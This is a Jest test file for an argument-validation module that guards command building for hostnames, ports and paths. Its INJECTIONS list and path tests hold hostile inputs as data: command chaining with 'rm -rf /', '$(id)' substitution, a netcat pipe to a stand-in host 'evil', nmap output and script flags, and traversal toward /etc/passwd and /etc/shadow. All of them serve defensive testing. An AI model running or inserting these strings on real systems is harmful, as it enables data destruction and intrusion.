import { describe, expect, test } from '@jest/globals';
import {
  ArgRefused,
  dnsLabel,
  dnsSubdomain,
  host,
  hostPort,
  pathUnder,
  port,
  SafeArg,
} from '../../../core/exec/safe-arg.js';

const INJECTIONS = [
  'web; rm -rf /',
  'web && id',
  '$(id)',
  '`id`',
  'web|nc evil 4444',
  'web\nid',
  'web\u0000id',
  '-oN/etc/passwd',
  '--script=evil',
  '../../etc',
  'Web',
  'wéb',
  ' web',
  '',
];

describe('validated values', () => {
  test.each(INJECTIONS)('dnsLabel refuses %j', (value) => expect(() => dnsLabel(value)).toThrow(ArgRefused));
  test.each(INJECTIONS)('dnsSubdomain refuses %j', (value) =>
    expect(() => dnsSubdomain(value)).toThrow(ArgRefused),
  );
  test.each(INJECTIONS.filter((v) => v !== 'Web'))('host refuses %j', (value) =>
    expect(() => host(value)).toThrow(ArgRefused),
  );
  test.each(['0', '65536', '80;id', '-1', '08', '1e3', ' 80', '80 ', '443\n'])('port refuses %j', (value) =>
    expect(() => port(value)).toThrow(ArgRefused),
  );

  test('keeps RFC 1123 length limits: label 63, subdomain 253', () => {
    expect(dnsLabel('a'.repeat(63)).value).toHaveLength(63);
    expect(() => dnsLabel('a'.repeat(64))).toThrow(/length/);
    const long = Array.from({ length: 4 }, () => 'a'.repeat(63)).join('.');
    expect(long).toHaveLength(255);
    expect(() => dnsSubdomain(long)).toThrow(/length/);
    expect(() => dnsSubdomain(`${'a'.repeat(64)}.b`)).toThrow(/subdomain/);
    expect(dnsSubdomain('web.shop.svc.cluster.local').value).toBe('web.shop.svc.cluster.local');
  });

  test('hosts are addresses or names; host:port brackets IPv6', () => {
    expect(host('10.96.0.12').value).toBe('10.96.0.12');
    expect(host('Web.Shop.svc').value).toBe('web.shop.svc');
    expect(hostPort('::1', 443).value).toBe('[::1]:443');
    expect(hostPort('web.shop.svc', '8443').value).toBe('web.shop.svc:8443');
    expect(() => hostPort('web', '80;id')).toThrow(ArgRefused);
  });

  test('paths are cleaned and kept under the allowed roots', () => {
    expect(pathUnder('/scan/root/./etc//passwd', ['/scan/root']).value).toBe('/scan/root/etc/passwd');
    expect(() => pathUnder('/scan/root/../../etc/shadow', ['/scan/root'])).toThrow(/not under/);
    expect(() => pathUnder('/scan/rootkit', ['/scan/root'])).toThrow(/not under/);
    expect(() => pathUnder('relative/path', ['/scan/root'])).toThrow(/not absolute/);
    expect(() => pathUnder('-rf', ['/'])).toThrow(/not absolute/);
    expect(() => pathUnder('/scan/root/a\nb', ['/scan/root'])).toThrow(/control/);
    expect(() => pathUnder('/scan/root/a\u0000b', ['/scan/root'])).toThrow(/control/);
  });

  test('literals are plain tokens; a SafeArg cannot be made from outside', () => {
    expect(SafeArg.literal('-sV').value).toBe('-sV');
    expect(() => SafeArg.literal('-p 80; id')).toThrow(ArgRefused);
    expect(() => SafeArg.literal('$(id)')).toThrow(ArgRefused);
    expect(() => new SafeArg(Symbol('SafeArg'), 'x', 'forged')).toThrow(TypeError);
  });
});
